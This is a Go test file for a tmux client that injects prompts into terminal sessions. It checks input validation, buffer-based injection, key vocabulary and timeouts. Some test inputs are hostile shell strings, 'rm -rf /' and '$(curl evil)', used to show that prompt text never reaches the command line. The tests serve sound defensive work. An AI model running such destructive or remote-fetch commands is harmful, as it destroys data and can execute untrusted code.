package tmux

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/agent-relay/relayd/internal/config"
	"github.com/agent-relay/relayd/internal/session"
)

func TestValidateName(t *testing.T) {
	valid := []string{"alpha", "relay-alpha", "a", "A1_b-2", "x" + strings.Repeat("y", 63)}
	for _, name := range valid {
		if err := ValidateName(name); err != nil {
			t.Errorf("ValidateName(%q): unexpected error %v", name, err)
		}
	}

	invalid := []string{
		"",
		"-leading-dash",
		"_leading_underscore",
		"has space",
		"has;semicolon",
		"has$dollar",
		"has/slash",
		"x" + strings.Repeat("y", 64),
	}
	for _, name := range invalid {
		if err := ValidateName(name); !errors.Is(err, session.ErrNameInvalid) {
			t.Errorf("ValidateName(%q): got %v, want ErrNameInvalid", name, err)
		}
	}
}

func TestValidateWorkDir(t *testing.T) {
	dir := t.TempDir()
	abs, err := ValidateWorkDir(dir)
	if err != nil {
		t.Fatalf("ValidateWorkDir(%q): %v", dir, err)
	}
	if !filepath.IsAbs(abs) {
		t.Errorf("expected absolute path, got %q", abs)
	}

	file := filepath.Join(dir, "f")
	if err := os.WriteFile(file, []byte("x"), 0o644); err != nil {
		t.Fatal(err)
	}

	bad := []string{
		"",
		dir + "/../" + filepath.Base(dir),
		filepath.Join(dir, "missing"),
		file, // exists but is not a directory
	}
	for _, d := range bad {
		if _, err := ValidateWorkDir(d); !errors.Is(err, session.ErrDirectoryInvalid) {
			t.Errorf("ValidateWorkDir(%q): got %v, want ErrDirectoryInvalid", d, err)
		}
	}
}

// fakeTmux writes a shell script that records every invocation's argv to
// a log file and always succeeds. Inject's safety property is asserted
// on the recorded argv: the prompt text itself must never appear there.
func fakeTmux(t *testing.T) (client *Client, logPath string) {
	t.Helper()
	dir := t.TempDir()
	logPath = filepath.Join(dir, "calls.log")
	bin := filepath.Join(dir, "tmux")

	script := "#!/bin/sh\necho \"$@\" >> " + logPath + "\nexit 0\n"
	if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}

	client = NewClient(&config.TmuxConfig{
		Bin:              bin,
		CommandTimeoutMs: 5000,
		SettleDelayMs:    0,
		ConfirmDelayMs:   0,
		CaptureLines:     200,
	})
	return client, logPath
}

func readCalls(t *testing.T, logPath string) []string {
	t.Helper()
	data, err := os.ReadFile(logPath)
	if err != nil {
		t.Fatalf("read call log: %v", err)
	}
	return strings.Split(strings.TrimSpace(string(data)), "\n")
}

func TestInject_TextNeverOnCommandLine(t *testing.T) {
	client, logPath := fakeTmux(t)

	secret := "rm -rf /; $(curl evil) `backticks` \"quotes\""
	if err := client.Inject("relay-alpha", secret); err != nil {
		t.Fatalf("Inject: %v", err)
	}

	calls := readCalls(t, logPath)
	for _, call := range calls {
		if strings.Contains(call, "rm -rf") || strings.Contains(call, "curl evil") {
			t.Fatalf("prompt text leaked into tmux argv: %q", call)
		}
	}

	var sawLoad, sawPaste, sawEnter, sawDelete bool
	for _, call := range calls {
		switch {
		case strings.HasPrefix(call, "load-buffer"):
			sawLoad = true
		case strings.HasPrefix(call, "paste-buffer"):
			sawPaste = true
		case strings.HasPrefix(call, "send-keys") && strings.HasSuffix(call, "Enter"):
			sawEnter = true
		case strings.HasPrefix(call, "delete-buffer"):
			sawDelete = true
		}
	}
	if !sawLoad || !sawPaste || !sawEnter {
		t.Errorf("expected load-buffer, paste-buffer, send-keys Enter sequence, got %v", calls)
	}
	if !sawDelete {
		t.Error("paste buffer must be deleted after injection")
	}
}

func TestInject_DeliversFullText(t *testing.T) {
	client, logPath := fakeTmux(t)

	text := "multi line\nprompt with unicode ✓"
	if err := client.Inject("relay-alpha", text); err != nil {
		t.Fatalf("Inject: %v", err)
	}

	// load-buffer receives a file path as its last argument; the file is
	// deleted after injection, so verify the call shape instead.
	for _, call := range readCalls(t, logPath) {
		if strings.HasPrefix(call, "load-buffer") {
			fields := strings.Fields(call)
			if len(fields) < 4 || fields[1] != "-b" {
				t.Errorf("load-buffer call shape: %q", call)
			}
			return
		}
	}
	t.Fatal("no load-buffer call recorded")
}

func TestSendKeys_TrustedVocabularyOnly(t *testing.T) {
	client, logPath := fakeTmux(t)

	if err := client.SendKeys("relay-alpha", "1", "Enter"); err != nil {
		t.Fatalf("SendKeys trusted: %v", err)
	}

	err := client.SendKeys("relay-alpha", "rm -rf /")
	if !errors.Is(err, session.ErrNameInvalid) {
		t.Fatalf("SendKeys untrusted: got %v, want ErrNameInvalid", err)
	}

	for _, call := range readCalls(t, logPath) {
		if strings.Contains(call, "rm -rf") {
			t.Fatalf("untrusted key reached tmux: %q", call)
		}
	}
}

func TestCreate_RejectsBadInputsBeforeTmux(t *testing.T) {
	client, logPath := fakeTmux(t)

	if err := client.Create("bad name", t.TempDir(), ""); !errors.Is(err, session.ErrNameInvalid) {
		t.Errorf("bad name: got %v, want ErrNameInvalid", err)
	}
	if err := client.Create("good-name", "/does/not/exist", ""); !errors.Is(err, session.ErrDirectoryInvalid) {
		t.Errorf("bad dir: got %v, want ErrDirectoryInvalid", err)
	}
	if _, err := os.Stat(logPath); !os.IsNotExist(err) {
		t.Error("validation failures must not invoke tmux")
	}
}

func TestRun_ProcessErrorCarriesOutput(t *testing.T) {
	dir := t.TempDir()
	bin := filepath.Join(dir, "tmux")
	script := "#!/bin/sh\necho 'no server running on /tmp/sock' >&2\nexit 1\n"
	if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	client := NewClient(&config.TmuxConfig{Bin: bin, CommandTimeoutMs: 5000})

	names, err := client.List()
	if err != nil {
		t.Fatalf("List with no server: got %v, want nil", err)
	}
	if names != nil {
		t.Errorf("names: got %v, want nil", names)
	}
}

func TestRun_TimeoutMapsToErrTimeout(t *testing.T) {
	dir := t.TempDir()
	bin := filepath.Join(dir, "tmux")
	script := "#!/bin/sh\nsleep 5\n"
	if err := os.WriteFile(bin, []byte(script), 0o755); err != nil {
		t.Fatal(err)
	}
	client := NewClient(&config.TmuxConfig{Bin: bin, CommandTimeoutMs: 50})

	_, err := client.run("has-session", "x", "has-session", "-t", "x")
	if !errors.Is(err, session.ErrTimeout) {
		t.Errorf("got %v, want ErrTimeout", err)
	}
}

func TestTrimToLastNLines(t *testing.T) {
	cases := []struct {
		text string
		n    int
		want string
	}{
		{"a\nb\nc\n", 2, "b\nc"},
		{"a\nb\nc", 5, "a\nb\nc"},
		{"", 3, ""},
		{"single", 1, "single"},
	}
	for _, tc := range cases {
		if got := trimToLastNLines(tc.text, tc.n); got != tc.want {
			t.Errorf("trimToLastNLines(%q, %d): got %q, want %q", tc.text, tc.n, got, tc.want)
		}
	}
}
